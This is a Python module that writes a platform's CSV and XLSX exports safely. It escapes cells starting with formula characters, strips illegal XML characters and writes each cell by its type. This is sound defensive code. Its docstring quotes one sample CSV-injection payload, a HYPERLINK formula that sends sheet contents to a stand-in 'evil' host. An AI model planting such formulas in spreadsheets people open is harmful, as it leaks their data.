"""Every CSV and XLSX the platform hands out is written here, so user text can never act as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets (a deal titled
``=HYPERLINK("http://evil/?"&A1,"点击")`` becomes a live link leaking the
sheet). ``safe_cell`` prefixes such text with an apostrophe, which the
spreadsheet shows as plain text (OWASP's "CSV injection" advice); numbers,
amounts and dates stay typed values. Control characters that XML 1.0
cannot carry (openpyxl raises ``IllegalCharacterError`` on them, which made
one bad recordal number break every XLSX export) are dropped.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "#,##0.00"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")

Sheet = tuple[str, Sequence[Any], Iterable[Sequence[Any]]]


def attachment(*parts: object, fmt: str) -> dict[str, str]:
    """The download header of an export, named the same way everywhere: what the file holds, then its scope and
    period, lower case and hyphenated (``console-items-2026-01-01-2026-12-31.csv``, ``annual-fees-2026-q4.xlsx``);
    empty parts are left out."""
    words = [re.sub(r"[^a-z0-9]+", "-", str(part).lower()).strip("-") for part in parts if part not in (None, "")]
    return {"Content-Disposition": f'attachment; filename="{"-".join(word for word in words if word)}.{fmt}"'}


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should store it: text never read as a formula, never an illegal character."""
    if isinstance(value, bool) or value is None:
        return value
    if isinstance(value, (int, float, Decimal, date, datetime)):
        return value
    text = _ILLEGAL.sub("", str(value))
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _csv_value(value: Any) -> Any:
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return safe_cell(value)


def to_csv(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM so Excel opens the Chinese text correctly; amounts keep two decimals."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([_csv_value(h) for h in headers])
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(sheets: Sequence[Sheet], *, widths: dict[str, dict[int, float]] | None = None) -> bytes:
    """One worksheet per (title, headers, rows): bold frozen header, amounts as numbers formatted to the cent.

    ``widths`` optionally fixes column widths per sheet title (1-based column
    index → width); otherwise a width follows the header's length. Written by
    XlsxWriter in constant-memory mode: each row goes out as it comes (a month
    of one owner's annual fees, 3,300 rows, in about a fifth of openpyxl's
    write-only time). Every cell is written by type, never through ``write``,
    which would turn text starting with ``=`` into a formula and URLs into links.
    """
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True, "strings_to_formulas": False,
                                        "strings_to_urls": False, "strings_to_numbers": False,
                                        "remove_timezone": True})
    formats = {"bold": book.add_format({"bold": True}), "money": book.add_format({"num_format": MONEY_FORMAT}),
               "date": book.add_format({"num_format": "yyyy-mm-dd"}),
               "datetime": book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})}
    used: set[str] = set()
    for title, headers, rows in sheets:
        sheet = book.add_worksheet(_sheet_name(title, used))
        fixed = (widths or {}).get(title, {})
        for index, header in enumerate(headers):
            sheet.set_column(index, index, fixed.get(index + 1) or max(10, min(40, len(str(header)) * 2 + 4)))
        sheet.freeze_panes(1, 0)
        for column, header in enumerate(headers):
            _write(sheet, 0, column, safe_cell(header), formats, formats["bold"])
        for number, row in enumerate(rows, start=1):
            for column, value in enumerate(row):
                _write(sheet, number, column, safe_cell(value), formats)
    book.close()
    return buffer.getvalue()


def _sheet_name(title: str, used: set[str]) -> str:
    """A worksheet name Excel accepts: without ``[]:*?/\\``, at most 31 characters, unique in the workbook
    (case-insensitive), numbered like openpyxl's when repeated."""
    base = re.sub(r"[\[\]:*?/\\]", " ", str(safe_cell(title))).lstrip("'")[:31].strip() or "Sheet"
    name, count = base, 1
    while name.lower() in used:
        suffix = str(count)
        name, count = base[:31 - len(suffix)] + suffix, count + 1
    used.add(name.lower())
    return name


def _write(sheet: Any, row: int, column: int, value: Any, formats: dict[str, Any], style: Any = None) -> None:
    """One cell by its type: amounts as numbers to the cent, dates as dates, text always as text."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, column, value, style)
    elif isinstance(value, (Decimal, float)):
        sheet.write_number(row, column, value, style or formats["money"])
    elif isinstance(value, int):
        sheet.write_number(row, column, value, style)
    elif isinstance(value, datetime):
        sheet.write_datetime(row, column, value, style or formats["datetime"])
    elif isinstance(value, date):
        sheet.write_datetime(row, column, value, style or formats["date"])
    else:
        sheet.write_string(row, column, value, style)
